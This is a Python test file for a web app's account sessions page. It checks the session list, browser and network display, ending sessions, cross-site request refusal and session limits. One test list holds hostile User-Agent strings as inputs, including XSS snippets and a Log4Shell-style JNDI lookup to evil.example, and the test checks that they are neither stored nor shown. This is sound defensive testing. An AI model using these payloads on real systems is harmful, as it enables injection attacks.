"""The list of an account's sessions: what it shows and keeps of each, and ending one."""

import re
from datetime import datetime, timedelta

import httpx
import pytest
from sqlalchemy import select
from starlette.requests import Request

from mdpublish_server.services.accounts import MAX_SESSIONS, sign_in
from mdpublish_server.storage import Database
from mdpublish_server.storage.tables import SESSIONS
from mdpublish_server.storage.transactions import Row, Statement
from mdpublish_server.validation.browsers import browser_of
from mdpublish_server.validation.ip_addresses import shown_network
from tests.server.api_requests import publish_new
from tests.server.browsers import Connect, Member, notices
from tests.server.conftest import Travel
from tests.server.members import FOREIGN, PASSWORD

pytestmark = pytest.mark.anyio

PAGE = "/account/sessions"

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"


def rows(database: Database) -> list[Row]:
    """Return what is stored of sessions, but for the hash."""
    columns = [column for column in SESSIONS.c if column.key != "token_hash"]
    with database.read_transaction() as transaction:
        return list(transaction.rows(Statement(select(*columns).order_by(SESSIONS.c.created_at))))


async def sign_in_from(browser: httpx.AsyncClient, member: Member, user_agent: str = FIREFOX) -> None:
    browser.headers["User-Agent"] = user_agent
    form = {"email": member.account.email, "password": PASSWORD}
    assert (await browser.post("/signin", data=form)).status_code == 303


def listed(page: httpx.Response) -> list[str]:
    """Return the texts of the rows."""
    matches = re.findall(r"<li>\s*<div class=\"about\">.*?</li>", page.text, re.DOTALL)
    return [" ".join(re.sub(r"<[^>]*>", " ", row).split()) for row in matches]


def ends(page: httpx.Response) -> list[str]:
    return re.findall(r'action="(/account/sessions/[^"]+/end)"', page.text)


async def test_list_has_browser_network_and_times_and_marks_this_browser(
    anna: Member, client_from: Connect, travel: Travel
) -> None:
    travel(timedelta(hours=1))
    async with client_from("127.7.3.77") as other:
        await sign_in_from(other, anna)
    travel(timedelta(hours=1))

    page = await anna.browser.get(PAGE)

    assert listed(page) == [
        "Unknown browser (this browser) 127.0.0.0/24 Signed in 1 March 2026 Last used 1 March 2026, 14:00 UTC Sign out",
        "Firefox on Linux 127.7.3.0/24 Signed in 1 March 2026 Last used 1 March 2026, 13:00 UTC Sign out",
    ]
    assert page.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    ("host", "network"),
    [
        ("192.0.2.77", "192.0.2.0/24"),
        ("2001:db8:1:2:3:4:5:6", "2001:db8:1::/48"),
        ("::ffff:192.0.2.77", "192.0.2.0/24"),
        ("fe80::1%eth0", "fe80::/48"),
        ("", ""),
        ("unix:" + "x" * 300, ""),
        ("<b>192.0.2.77</b>", ""),
    ],
)
def test_network_is_what_is_left_of_an_address(host: str, network: str) -> None:
    assert shown_network(Request({"type": "http", "client": (host, 1), "headers": []})) == network


async def test_ended_session_is_signed_out_at_once_and_others_stay(
    anna: Member, other: httpx.AsyncClient, client_from: Connect
) -> None:
    await sign_in_from(other, anna)
    async with client_from("127.0.0.1") as third:
        await sign_in_from(third, anna, "curl/8.0")
        (path,) = set(ends(await third.get(PAGE))) & set(ends(await anna.browser.get(PAGE)))

        response = await anna.browser.post(path)

        assert (response.status_code, response.headers["location"]) == (303, f"{PAGE}?done=session")
        shown = await anna.browser.get(response.headers["location"])
        assert notices(shown) == ["The browser has been signed out."]
        assert len(listed(shown)) == 2
        assert (await other.get("/account")).status_code == 303
        assert (await other.get("/v1/usage")).status_code == 401
        assert (await third.get("/account")).status_code == 200


async def test_page_has_neither_tokens_nor_their_hashes(
    anna: Member, other: httpx.AsyncClient, database: Database
) -> None:
    await sign_in_from(other, anna)
    page = await anna.browser.get(PAGE)
    with database.read_transaction() as transaction:
        hashes = [row[0] for row in transaction.rows(Statement(select(SESSIONS.c.token_hash)))]
    assert len(hashes) == 2
    for secret in (*hashes, anna.token, other.cookies["session"]):
        assert secret[:16] not in page.text


async def test_this_browsers_button_signs_it_out(anna: Member) -> None:
    page = await anna.browser.get(PAGE)
    assert ends(page) == []
    assert page.text.count('action="/signout"') == 2  # of the menu, and of the row


async def test_session_of_another_account_is_not_there(anna: Member, berta: Member, other: httpx.AsyncClient) -> None:
    await sign_in_from(other, berta)
    (path,) = ends(await berta.browser.get(PAGE))
    for wrong in (path, f"{PAGE}/{'0' * 32}/end", f"{PAGE}/{anna.token}/end", f"{PAGE}/%00/end"):
        assert (await anna.browser.post(wrong)).status_code == 404, wrong
    assert (await other.get("/account")).status_code == 200


@pytest.mark.parametrize("headers", FOREIGN)
async def test_forms_of_other_sites_end_nothing(
    anna: Member, other: httpx.AsyncClient, headers: dict[str, str]
) -> None:
    await sign_in_from(other, anna)
    (path,) = ends(await anna.browser.get(PAGE))
    for form in (path, f"{PAGE}/signout"):
        assert (await anna.browser.post(form, headers=headers)).status_code == 403
    assert (await other.get("/account")).status_code == 200


@pytest.mark.parametrize("suffix", ["", ".md", ".png"])
async def test_view_of_a_private_page_is_a_use(berta: Member, travel: Travel, database: Database, suffix: str) -> None:
    published = await publish_new(berta.program, "x", visibility="specific", readers=[], show_source=True)
    before = rows(database)
    travel(timedelta(hours=1))
    assert (await berta.browser.get(published["published_url"] + suffix)).status_code == 200
    assert rows(database) != before


async def test_last_use_is_written_once_in_five_minutes(
    anna: Member, database: Database, travel: Travel, client_from: Connect
) -> None:
    before = rows(database)
    async with client_from("127.9.9.9") as moved:
        moved.cookies.set("session", anna.token)
        travel(timedelta(minutes=5) - timedelta(microseconds=1))
        for path in ("/account", "/", "/v1/usage"):
            assert (await moved.get(path)).status_code == 200
        assert rows(database) == before
        travel(timedelta(microseconds=1))
        assert (await moved.get("/v1/usage")).status_code == 200
        (used,) = rows(database)
        assert "127.9.9.0/24" in used
        travel(timedelta(minutes=4))
        await moved.get("/account")
        assert rows(database) == [used]


HOSTILE = [
    "",
    "x",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\x1b[31mFire\x7f",
    "F\xefrefox",
    "Mozilla/5.0 " * 600,
    f"{'x' * 500}Firefox/1 Linux",
    "{{ 7 * 7 }} %s {0} ${jndi:ldap://evil.example}",
    "Firefox on <b>Linux</b>",
]


@pytest.mark.parametrize("user_agent", HOSTILE)
async def test_nothing_of_a_hostile_user_agent_is_stored_or_shown(
    anna: Member, other: httpx.AsyncClient, database: Database, user_agent: str
) -> None:
    other.headers = httpx.Headers({"User-Agent": user_agent}, encoding="latin-1")
    form = {"email": anna.account.email, "password": PASSWORD}
    assert (await other.post("/signin", data=form)).status_code == 303
    assert [row[3] for row in rows(database)] == ["Unknown browser"] * 2
    assert "Unknown browser (this browser)" in listed(await other.get(PAGE))[0]


async def test_request_without_a_user_agent_signs_in(anna: Member, other: httpx.AsyncClient) -> None:
    del other.headers["User-Agent"]
    form = {"email": anna.account.email, "password": PASSWORD}
    assert (await other.post("/signin", data=form)).status_code == 303


WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"


@pytest.mark.parametrize(
    ("user_agent", "name"),
    [
        (FIREFOX, "Firefox on Linux"),
        (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/141.0 Safari/537.36", "Chrome on Windows"),
        (f"Mozilla/5.0 (Windows NT 10.0) {WEBKIT} Chrome/141.0 Safari/537.36 Edg/141.0", "Edge on Windows"),
        (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT} Version/18.6 Safari/605.1.15", "Safari on macOS"),
        (f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {WEBKIT} CriOS/141.0 Safari/604.1", "Chrome on iOS"),
        (
            f"Mozilla/5.0 (Linux; Android 10; K) {WEBKIT} SamsungBrowser/28.0 Chrome/130.0 Safari/537.36",
            "Samsung Internet on Android",
        ),
        ("Firefox/140.0", "Firefox"),
        ("curl/8.5.0", "Unknown browser"),
        ("Lynx/2.9 Linux", "Unknown browser"),
    ],
)
def test_browser_is_named_with_its_system(user_agent: str, name: str) -> None:
    assert browser_of(user_agent) == name


async def test_account_has_a_bounded_number_of_sessions(
    anna: Member, berta: Member, database: Database, travel: Travel, times: list[datetime]
) -> None:
    for _ in range(MAX_SESSIONS + 5):
        travel(timedelta(minutes=6))
        # The session that is in use stays, though it is the oldest.
        assert (await anna.browser.get("/account")).status_code == 200
        travel(timedelta(seconds=1))
        with database.write_transaction() as transaction:
            sign_in(transaction, anna.account, now=times[-1])
    assert len(listed(await anna.browser.get(PAGE))) == MAX_SESSIONS
    assert len(rows(database)) == MAX_SESSIONS + 1
    assert (await berta.browser.get("/account")).status_code == 200
